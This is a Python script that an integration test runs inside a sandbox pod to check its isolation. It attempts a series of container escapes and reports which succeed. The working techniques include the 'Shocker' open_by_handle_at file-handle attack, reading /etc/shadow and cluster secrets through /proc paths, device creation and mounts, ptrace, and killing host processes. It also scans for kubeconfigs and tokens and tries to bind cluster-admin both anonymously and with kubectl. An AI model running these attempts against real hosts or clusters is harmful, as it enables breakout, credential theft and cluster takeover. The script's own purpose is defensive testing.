"""Escape attempts, run *inside* a sandbox by tests/integration/test_escape.py.

Standard library only (it runs under the pod's ``python3``). Its one argument is a JSON
object from the test: the host paths of the devcluster's secrets, the API server's URL,
a host process to kill, a marker name for files it tries to plant. It prints one JSON
object: for every step, ``{"escaped": bool, "detail": str, "crashed": bool}``. Each step
tries every way it knows; "escaped" means one of them worked. The test asserts on each step.
"""

from __future__ import annotations

import ctypes
import errno
import glob
import json
import os
import signal
import ssl
import stat
import subprocess
import sys
import urllib.error
import urllib.request

LIBC = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
CLONE_NEWUSER = 0x10000000
CLONE_NEWNS = 0x00020000
PTRACE_ATTACH = 16


def _err() -> str:
    return errno.errorcode.get(ctypes.get_errno(), str(ctypes.get_errno()))


def identity(_: dict) -> tuple[bool, str]:
    """uid 0 of the pod must not be uid 0 of the host."""
    with open("/proc/self/uid_map") as f:
        lines = [line.split() for line in f if line.strip()]
    host_root = [line for line in lines if int(line[1]) == 0]
    return bool(host_root), f"uid_map {lines}"


def capabilities(_: dict) -> tuple[bool, str]:
    status = {}
    with open("/proc/self/status") as f:
        for line in f:
            key, _, value = line.partition(":")
            status[key] = value.strip()
    caps = {k: int(status[k], 16) for k in ("CapInh", "CapPrm", "CapEff", "CapAmb")}
    escaped = any(caps.values()) or status.get("NoNewPrivs") != "1" or status.get(
        "Seccomp") != "2"
    return escaped, f"{caps} NoNewPrivs={status.get('NoNewPrivs')} Seccomp={status.get('Seccomp')}"


class _FileHandle(ctypes.Structure):
    _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int),
                ("f_handle", ctypes.c_ubyte * 128)]


def file_handles(_: dict) -> tuple[bool, str]:
    """"Shocker": open the root inode of the filesystem behind a mount by handle."""
    details = []
    for mount in ("/tmp", "/root", "/etc", "/usr", "/"):
        try:
            mount_fd = os.open(mount, os.O_RDONLY | os.O_DIRECTORY)
        except OSError as exc:
            details.append(f"{mount}: {exc}")
            continue
        try:
            handle = _FileHandle(handle_bytes=128)
            mount_id = ctypes.c_int()
            named = LIBC.name_to_handle_at(mount_fd, b".", ctypes.byref(handle),
                                           ctypes.byref(mount_id), 0)
            details.append(f"name_to_handle_at({mount})={named} {_err() if named else ''}")
            for inode in (2, 128):  # ext4's root inode; xfs's usual one
                forged = _FileHandle(handle_bytes=8, handle_type=1)
                ctypes.memmove(forged.f_handle, inode.to_bytes(4, "little") + bytes(4), 8)
                fd = LIBC.open_by_handle_at(mount_fd, ctypes.byref(forged), os.O_RDONLY)
                if fd >= 0:
                    names = os.listdir(f"/proc/self/fd/{fd}")
                    return True, f"open_by_handle_at({mount}, inode {inode}) -> {names[:10]}"
                details.append(f"open_by_handle_at({mount}, {inode}): {_err()}")
        finally:
            os.close(mount_fd)
    return False, "; ".join(details)


def _candidates(path: str) -> list[str]:
    """Every route to a host path this pod can think of."""
    routes = [path]
    routes += [f"{root}{path}" for root in glob.glob("/proc/*/root")]
    routes += [f"{cwd}/{os.path.basename(path)}" for cwd in glob.glob("/proc/*/cwd")]
    try:
        with open("/proc/self/mountinfo") as f:
            mounts = [line.split() for line in f]
    except OSError:
        mounts = []
    for fields in mounts:  # field 4: the mount's root within its filesystem, 5: where
        source_root, mount_point = fields[3], fields[4]
        if source_root != "/":
            relative = os.path.relpath(path, source_root)
            routes.append(os.path.join(mount_point, relative))
    return routes


def secrets(config: dict) -> tuple[bool, str]:
    """The devcluster's keys, tokens and kubeconfig, by any route."""
    read = []
    for path in config["secrets"]:
        for route in _candidates(path):
            try:
                with open(route, "rb") as f:
                    if f.read(64):
                        read.append(route)
            except OSError:
                pass
    return bool(read), f"read {read}" if read else "nothing readable"


def shadow(_: dict) -> tuple[bool, str]:
    for route in [*_candidates("/etc/shadow"), "/etc/gshadow"]:
        try:
            with open(route, "rb") as f:
                data = f.read()
        except OSError:
            continue
        if b"root:" in data:
            return True, f"read {route}"
    return False, "unreadable"


def host_home(config: dict) -> tuple[bool, str]:
    """The host's /root (and the invoking user's home) must not be what the pod sees."""
    try:
        seen = set(os.listdir("/root"))
    except OSError as exc:
        return False, str(exc)
    leaked = seen & set(config["host_home_entries"])
    return bool(leaked), f"/root holds {sorted(seen)[:20]}"


def writes(config: dict) -> tuple[bool, str]:
    """Plant a file anywhere outside the pod's own directories (``/tmp``, home, ``/dev``
    and the working directory are its own; the test checks the host's copies of those)."""
    planted = []
    marker = config["marker"]
    for directory in ("/", "/usr", "/etc", "/var", "/usr/local/bin", "/proc",
                      *config["host_dirs"], *glob.glob("/proc/*/root")):
        path = os.path.join(directory, marker)
        try:
            fd = os.open(path, os.O_WRONLY | os.O_CREAT | os.O_EXCL, 0o600)
        except OSError:
            continue
        os.close(fd)
        planted.append(path)
    return bool(planted), f"created {planted}" if planted else "every write refused"


def devices(_: dict) -> tuple[bool, str]:
    made = []
    for name, kind, dev in (("null", stat.S_IFCHR, (1, 3)), ("disk", stat.S_IFBLK, (8, 0)),
                            ("mem", stat.S_IFCHR, (1, 1))):
        path = f"/tmp/escape-{name}"
        try:
            os.mknod(path, kind | 0o600, os.makedev(*dev))
        except OSError:
            continue
        made.append(path)
    return bool(made), f"mknod {made}" if made else "mknod refused"


def mounts(_: dict) -> tuple[bool, str]:
    os.makedirs("/tmp/escape-mnt", exist_ok=True)
    results = []
    for source, fstype in ((b"tmpfs", b"tmpfs"), (b"proc", b"proc"), (b"/", None)):
        flags = 4096 if fstype is None else 0  # MS_BIND
        rc = LIBC.mount(source, b"/tmp/escape-mnt", fstype, flags, None)
        if rc == 0:
            return True, f"mounted {source!r}"
        results.append(f"{source!r}: {_err()}")
    return False, "; ".join(results)


def user_namespaces(_: dict) -> tuple[bool, str]:
    """A new user namespace would give back a full capability set."""
    rc = LIBC.unshare(CLONE_NEWUSER)
    direct = f"unshare(CLONE_NEWUSER)={rc} {_err() if rc else ''}"
    if rc == 0:
        return True, direct
    try:
        tool = subprocess.run(["unshare", "-r", "id"], capture_output=True, text=True,
                              timeout=10)
    except (OSError, subprocess.TimeoutExpired) as exc:
        return False, f"{direct}; unshare -r: {exc}"
    return tool.returncode == 0, f"{direct}; unshare -r: {tool.returncode} {tool.stderr.strip()}"


def signals(config: dict) -> tuple[bool, str]:
    """Kill a host process the test started (its pid is not in our PID namespace)."""
    pid = config["host_pid"]
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError as exc:
        return False, f"kill({pid}): {exc}"
    return True, f"kill({pid}) succeeded"  # the test also checks the process is alive


def tracing(_: dict) -> tuple[bool, str]:
    rc = LIBC.ptrace(PTRACE_ATTACH, 1, None, None)
    if rc == 0:
        return True, "ptrace(ATTACH, 1) succeeded"
    return False, f"ptrace: {_err()}"


def host_processes(config: dict) -> tuple[bool, str]:
    visible = [p for p in os.listdir("/proc") if p.isdigit()]
    leaked = str(config["host_pid"]) in visible or str(config["test_pid"]) in visible
    return leaked, f"pids {sorted(visible, key=int)[:20]}"


def _found_credentials() -> list[str]:
    """Anything that looks like a kubeconfig or token, on the paths a pod can see."""
    found = []
    for top in ("/", "/root", "/tmp", "/etc", "/var", "/run"):
        for directory, subdirs, files in os.walk(top):
            if directory.startswith(("/proc", "/sys", "/usr", "/dev")):
                subdirs[:] = []
                continue
            found += [os.path.join(directory, f) for f in files
                      if f in ("kubeconfig", "config", "token", "admin.key")]
            if len(found) > 50:
                return found
    return found


def _anonymous_binding(config: dict) -> str:
    """POST a ClusterRoleBinding to cluster-admin straight to the API, with no credentials."""
    body = json.dumps({
        "apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding",
        "metadata": {"name": config["marker"]},
        "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole",
                    "name": "cluster-admin"},
        "subjects": [{"kind": "Group", "name": "system:unauthenticated",
                      "apiGroup": "rbac.authorization.k8s.io"}],
    }).encode()
    request = urllib.request.Request(
        config["api_url"] + "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings",
        data=body, headers={"Content-Type": "application/json"}, method="POST")
    try:
        with urllib.request.urlopen(request, context=ssl._create_unverified_context(),
                                    timeout=10) as response:
            return f"created: HTTP {response.status}"
    except urllib.error.HTTPError as exc:
        return f"anonymous POST: HTTP {exc.code}"


def kubectl(config: dict) -> tuple[bool, str]:
    """Bind ourselves to cluster-admin with kubectl and anything found."""
    base = ["kubectl", "--server", config["api_url"], "--insecure-skip-tls-verify",
            "--request-timeout", "10s"]
    attempts = [[]]
    for path in _found_credentials():
        attempts.append(["--kubeconfig", path])
        try:
            with open(path) as f:
                attempts.append(["--token", f.read().strip()])
        except (OSError, UnicodeDecodeError):
            pass
    details = [_anonymous_binding(config)]
    if details[0].startswith("created"):
        return True, details[0]
    for extra in attempts:
        can = subprocess.run([*base, *extra, "auth", "can-i", "create",
                              "clusterrolebindings"], capture_output=True, text=True,
                             timeout=30, env={"PATH": os.environ["PATH"], "HOME": "/tmp"},
                             stdin=subprocess.DEVNULL)
        if can.stdout.strip() == "yes":
            return True, f"can-i yes with {extra[:1]}"
        made = subprocess.run([*base, *extra, "create", "clusterrolebinding",
                               config["marker"], "--clusterrole=cluster-admin",
                               "--user=escaped"], capture_output=True, text=True,
                              timeout=30, env={"PATH": os.environ["PATH"], "HOME": "/tmp"},
                              stdin=subprocess.DEVNULL)
        if made.returncode == 0:
            return True, f"created a ClusterRoleBinding with {extra[:1]}"
        details.append(made.stderr.strip()[:120])
    return False, f"{len(attempts)} identities refused: {details[:3]}"


STEPS = [identity, capabilities, file_handles, secrets, shadow, host_home, writes, devices,
         mounts, user_namespaces, signals, tracing, host_processes, kubectl]


def main() -> None:
    config = json.loads(sys.argv[1])
    results = {}
    for step in STEPS:
        try:
            escaped, detail = step(config)
            crashed = False
        except Exception as exc:  # an attempt that could not run proves nothing: the test fails
            escaped, detail, crashed = False, f"{type(exc).__name__}: {exc}", True
        results[step.__name__] = {"escaped": escaped, "detail": detail, "crashed": crashed}
    print(json.dumps(results))


if __name__ == "__main__":
    main()
